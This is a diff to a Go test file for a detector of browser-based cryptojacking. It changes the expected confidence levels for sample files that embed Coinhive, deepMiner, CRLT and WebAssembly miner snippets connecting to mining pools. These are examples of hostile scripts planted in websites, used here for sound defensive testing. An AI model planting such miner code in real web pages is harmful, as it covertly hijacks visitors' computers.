@@ -19,12 +19,12 @@ func rules(t testing.TB) behaviour.Rules {
 func samples() []indicatortest.Sample {
 	script, text := trust.KindScript, trust.KindText
 	return []indicatortest.Sample{
-		{Name: "page", Path: "var/www/html/index.php", Kind: script, Content: "<script src=\"https://coinhive.com/lib/coinhive.min.js\"></script>\n<script>var m = new CoinHive.Anonymous('abcdefghijklmnopqrstuvwxyzabcdef', {throttle: 0.3}); m.start();</script>\n", Want: trust.Strong},
-		{Name: "html", Path: "usr/share/nginx/html/index.html", Kind: text, Content: "<script src=\"/js/deepMiner.min.js\"></script><script>var miner = new deepMiner.Anonymous('48abcdefghijkl', {autoThreads: true, throttle: 0.2}).start()</script>", Want: trust.Strong},
+		{Name: "page", Path: "var/www/html/index.php", Kind: script, Content: "<script src=\"https://coinhive.com/lib/coinhive.min.js\"></script>\n<script>var m = new CoinHive.Anonymous('abcdefghijklmnopqrstuvwxyzabcdef', {throttle: 0.3}); m.start();</script>\n", Want: trust.Proof},
+		{Name: "html", Path: "usr/share/nginx/html/index.html", Kind: text, Content: "<script src=\"/js/deepMiner.min.js\"></script><script>var miner = new deepMiner.Anonymous('48abcdefghijkl', {autoThreads: true, throttle: 0.2}).start()</script>", Want: trust.Proof},
 		{Name: "worker", Path: "var/www/js/w.js", Kind: script, Content: "var hash_cn = Module.cwrap('hash_cn', 'string', ['string','string']);\nvar ws = new WebSocket(\"wss://x.example.net/proxy?pool=p:3333\");\n", Want: trust.Strong},
 		{Name: "tag", Path: "var/www/html/t.html", Kind: text, Content: "<script async src=\"https://www.hostingcloud.racing/x1.js\"></script>", Want: trust.Weak, IfRun: trust.Strong},
 		{Name: "client", Path: "srv/public/app.js", Kind: script, Content: "var c = new Client.Anonymous('0123456789abcdef0123456789abcdef', { throttle: 0.5, c: 'w' }); c.start();", Want: trust.Strong},
-		{Name: "start", Path: "srv/public/i.html", Kind: text, Content: "<script src=\"https://www.webmine.pro/lib/crlt.js\"></script><script>var miner=new CRLT.Anonymous(\"0123456789abcdef0123456789\", {threads:4,throttle:0.2});</script>", Want: trust.Strong},
+		{Name: "start", Path: "srv/public/i.html", Kind: text, Content: "<script src=\"https://www.webmine.pro/lib/crlt.js\"></script><script>var miner=new CRLT.Anonymous(\"0123456789abcdef0123456789\", {threads:4,throttle:0.2});</script>", Want: trust.Proof},
 		{Name: "module", Path: "srv/public/x.js", Kind: script, Content: "fetch('/static/cryptonight.wasm').then(r => r.arrayBuffer()).then(b => WebAssembly.instantiate(b));\nws = new WebSocket('wss://pool.example.net/');\n", Want: trust.Strong},
 	}
 }
